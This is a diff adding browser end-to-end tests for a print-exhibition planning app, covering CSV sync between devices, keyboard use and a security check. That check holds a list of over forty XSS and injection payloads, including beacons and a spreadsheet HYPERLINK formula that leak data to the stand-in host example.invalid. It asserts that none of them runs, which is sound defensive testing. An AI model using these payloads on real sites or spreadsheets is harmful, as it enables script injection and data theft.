@@ -1,0 +1,245 @@
+import { readFile } from 'node:fs/promises';
+import type { Page } from 'playwright-core';
+import { expect, test } from 'vitest';
+import { chooseFile } from './harness/screens.ts';
+import { onStage } from './harness/stage.ts';
+import { oneStage } from './screens/oneStage.ts';
+import { cell, inHand, paste, press, startTyping, withPrints } from './screens/prints.ts';
+
+const play = oneStage({ reducedMotion: 'reduce' });
+
+const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name }).first();
+
+/** The file that a button of the files panel gives. */
+async function given(page: Page, name: string): Promise<string> {
+	await button(page, 'Files').click();
+	const download = page.waitForEvent('download');
+	await button(page, name).click();
+	const text = await readFile(await (await download).path(), 'utf8');
+	await button(page, 'Close').click();
+	return text;
+}
+
+async function type(page: Page, row: number, key: string, text: string): Promise<void> {
+	await cell(page, row, key).click();
+	await page.keyboard.type(text);
+	await press(page, 'Enter');
+}
+
+/** Takes a file in that only adds prints, which needs no answer. */
+async function add(page: Page, text: string): Promise<void> {
+	await button(page, 'Files').click();
+	await chooseFile(page, 'Import rows', 'from the other.csv', text);
+	await page.getByText(/rows read$/).waitFor();
+	await button(page, 'Close').click();
+}
+
+/** Takes a file in that has to be looked at first. */
+async function compare(page: Page, text: string, answer?: () => Promise<void>): Promise<void> {
+	await button(page, 'Files').click();
+	await chooseFile(page, 'Import rows', 'from the other.csv', text);
+	await page.getByRole('heading', { name: /^What differs/ }).waitFor();
+	await answer?.();
+	await button(page, 'Take it in as chosen').click();
+	await page.getByText(/rows read$/).waitFor();
+	await button(page, 'Close').click();
+}
+
+test('two devices exchange files three times, with edits on both sides, and end equal', () =>
+	onStage({ hasProfile: false }, (here) =>
+		onStage({ hasProfile: false }, async (there) => {
+			const [one, other] = [await here.openShow(), await there.openShow()];
+			await withPrints(one, [
+				['Low water', '300', '200'],
+				['Salt road', '310', '210'],
+				['Kiln door', '640', '480'],
+				['Fog', '280', '190'],
+			]);
+			await chooseFile(other, 'Import a file', 'first.csv', await given(one, 'Export rows'));
+			await other.getByRole('grid').waitFor();
+
+			await type(one, 0, 'title', 'Low water at dusk');
+			await type(other, 1, 'title', 'Salt road, wet');
+			await compare(other, await given(one, 'Export rows'));
+			await compare(one, await given(other, 'Export rows'));
+
+			// Both have changed the same cell, and one has a print more.
+			await type(one, 2, 'picture width', '620');
+			await type(other, 2, 'picture width', '630');
+			await cell(other, 3, 'title').click();
+			await button(other, 'Add print').click();
+			await type(other, 4, 'title', 'Tar');
+			await compare(other, await given(one, 'Export rows'), async () => {
+				await other
+					.getByRole('group', { name: /^picture width of/ })
+					.getByRole('radio', { name: /620/ })
+					.check();
+			});
+			await add(one, await given(other, 'Export rows'));
+
+			// One removes a print, the other changes another.
+			await cell(one, 3, 'title').click();
+			await button(one, 'This print…').click();
+			await one.getByRole('menuitem', { name: /^(Delete|Remove)/ }).click();
+			await type(other, 0, 'picture height', '205');
+			await compare(other, await given(one, 'Export rows'));
+			await compare(one, await given(other, 'Export rows'));
+
+			const [ours, theirs] = [await given(one, 'Export rows'), await given(other, 'Export rows')];
+			expect(ours).toBe(theirs);
+			for (const word of ['Low water at dusk', 'Salt road, wet', '620', '205', 'Tar']) expect(ours).toContain(word);
+			for (const word of ['630', 'Fog', ',640,']) expect(ours).not.toContain(word);
+		}),
+	));
+
+/** What runs a script where a text is taken for markup, an address or a formula. `ran()` tells that it did. */
+const payloads = [
+	...['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror'],
+	...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'keygen autofocus onfocus'],
+	...['marquee onstart', 'details open ontoggle', 'object data=x onerror', 'iframe src=x onload', 'style onload'],
+	...['link rel=stylesheet href=x onerror', 'script src=x onerror', 'svg><animate onbegin', 'math><mtext onclick'],
+]
+	.map((tag) => `<${tag}=ran()>`)
+	.concat(
+		'<script>ran()</script>',
+		'</script><script>ran()</script>',
+		'</title><script>ran()</script>',
+		'</textarea><script>ran()</script>',
+		'--><script>ran()</script>',
+		']]><script>ran()</script>',
+		'"><script>ran()</script>',
+		"'><script>ran()</script>",
+		'" onmouseover="ran()" x="',
+		"' onfocus='ran()' autofocus='",
+		'<a href="javascript:ran()">a</a>',
+		'javascript:ran()',
+		'data:text/html,<script>ran()</script>',
+		'<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+		'<iframe src="javascript:parent.ran()"></iframe>',
+		'<embed src="javascript:ran()">',
+		'<form action="javascript:ran()"><button autofocus>b</button></form>',
+		'<base href="http://example.invalid/">',
+		'<meta http-equiv=refresh content="0;url=http://example.invalid/">',
+		'<img src="http://example.invalid/leak.png">',
+		'<link rel=prefetch href="http://example.invalid/leak">',
+		'<style>@import "http://example.invalid/leak.css"</style>',
+		'<p style="background:url(http://example.invalid/leak)">p</p>',
+		'{ran()}',
+		'${ran()}',
+		'{{constructor.constructor("ran()")()}}',
+		'=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
+		'\u202e<script>ran()</script>',
+		'<ſcript>ran()</ſcript>',
+		'<svg><style><img src=x onerror=ran()></style></svg>',
+		'<noscript><p title="</noscript><img src=x onerror=ran()>">',
+	);
+
+test(`no script runs from any of ${payloads.length} cells, titles, headers, file names and shows' names`, () =>
+	play(async (page, stage) => {
+		expect(payloads.length).toBeGreaterThanOrEqual(40);
+		let dialogs = 0;
+		page.on('dialog', (dialog) => {
+			dialogs++;
+			void dialog.dismiss();
+		});
+		await page.evaluate(() => Object.assign(window, { count: 0, ran: () => (window as unknown as Ran).count++ }));
+		const quoted = payloads.map((text) => `"${text.replaceAll('"', '""')}"`);
+
+		// The grid.
+		await startTyping(page);
+		await press(page, 'Home');
+		await paste(page, quoted.map((text) => `1\t${text}\t\t456\t306`).join('\n'));
+		await page.locator(`[role=grid][aria-rowcount="${payloads.length + 2}"]`).waitFor();
+		expect(await cell(page, 0, 'title').textContent()).toContain(payloads[0]);
+
+		// A CSV: each as a title, a note and a header; its name, too. The comparison shows them.
+		const lines = quoted.map((text) => `1,${text},${text},456,306${',x'.repeat(quoted.length)}`);
+		const csv = [`number,title,note,picture width,picture height,${quoted.join(',')}`, ...lines].join('\n');
+		await button(page, 'Files').click();
+		await chooseFile(page, 'Import rows', '<img src=x onerror=ran()>.csv', csv);
+		await page.getByRole('heading', { name: /^What differs in “<img/ }).waitFor();
+		await button(page, 'Take all of theirs').click();
+		await button(page, 'Take it in as chosen').click();
+		await page.getByText(/rows read$/).waitFor();
+		await button(page, 'Close').click();
+
+		// A show file: its name, its prints, the columns of others. It stands in the list of shows by its name.
+		const rows = payloads.map((text, at) => ({
+			id: text,
+			typed: { title: text, number: `${at}` },
+			extra: { [text]: text },
+		}));
+		const show = { format: 'evenhang-show', version: 3, name: payloads[0], settings: { unit: 'mm' }, rows };
+		await button(page, 'Files').click();
+		await chooseFile(page, 'Open a show', '<svg onload=ran()>.json', JSON.stringify(show));
+		await button(page, 'Open it as a show of its own').click();
+		await page.getByText(/opened$/).waitFor();
+		await page.getByRole('link', { name: /Shows$/ }).click();
+		await page.getByRole('button', { name: payloads[0]!, exact: true }).waitFor();
+
+		// Paper.
+		await page.getByRole('link', { name: 'Bench', exact: true }).click();
+		await page.getByRole('link', { name: 'Print on paper' }).click();
+		await page.getByRole('checkbox', { name: /Corner templates/ }).waitFor();
+		expect((await page.pdf()).length).toBeGreaterThan(1000);
+
+		expect(await page.evaluate(() => (window as unknown as Ran).count)).toBe(0);
+		expect(dialogs).toBe(0);
+		expect(page.url().startsWith(stage.address), 'the page is where it was').toBe(true);
+	}));
+
+interface Ran {
+	count: number;
+}
+
+/** Goes from one thing to the next with Tab until it is the one of that name. */
+async function tabTo(page: Page, name: string): Promise<void> {
+	for (let step = 0; step < 60; step++) {
+		await press(page, 'Tab');
+		const focused = await page.evaluate(() => {
+			const element = document.activeElement;
+			return element?.getAttribute('aria-label') ?? element?.textContent.trim();
+		});
+		if (focused === name) return;
+	}
+	throw new Error(`Tab does not lead to “${name}”`);
+}
+
+const focused = (page: Page) => page.evaluate(() => document.activeElement?.textContent.trim());
+
+test('shows are begun, renamed, put away, deleted, brought back and opened by keyboard alone', () =>
+	play(async (page) => {
+		await withPrints(page, [['Low water', '300', '200']]);
+		await page.keyboard.press('Escape');
+		await page.getByRole('link', { name: /Shows$/ }).focus();
+		await press(page, 'Enter');
+		await tabTo(page, 'New show');
+		await press(page, 'Enter');
+		await page.getByRole('heading', { name: 'No prints in this show yet' }).waitFor();
+		expect(await focused(page)).not.toBe('');
+		await page.getByRole('link', { name: /Shows$/ }).focus();
+		await press(page, 'Enter');
+		await tabTo(page, 'Rename New show');
+		await press(page, 'Enter');
+		await page.keyboard.type('Harbour room');
+		await press(page, 'Enter');
+		await expect.poll(() => focused(page)).toBe('Rename');
+		await tabTo(page, 'Archive Harbour room');
+		await press(page, 'Enter');
+		await page.getByText('is in the archive').waitFor();
+		await expect.poll(() => focused(page)).toBe('Undo');
+		await press(page, 'Enter');
+		await expect.poll(() => page.getByRole('heading', { name: 'Archive' }).count()).toBe(0);
+		await expect.poll(() => focused(page)).toBe('New show');
+		await tabTo(page, 'Delete Harbour room');
+		await press(page, 'Enter');
+		await page.getByText('is deleted').waitFor();
+		await expect.poll(() => focused(page)).toBe('Undo');
+		await press(page, 'Enter');
+		await page.getByRole('button', { name: 'Harbour room', exact: true }).waitFor();
+		// The show from before opens where it was left: in its prints, with the focus there.
+		await page.getByRole('listitem').filter({ hasText: '1 print' }).getByRole('button').first().focus();
+		await press(page, 'Enter');
+		await cell(page, 0, 'title').waitFor();
+		await expect.poll(() => inHand(page)).not.toBe('');
+	}));
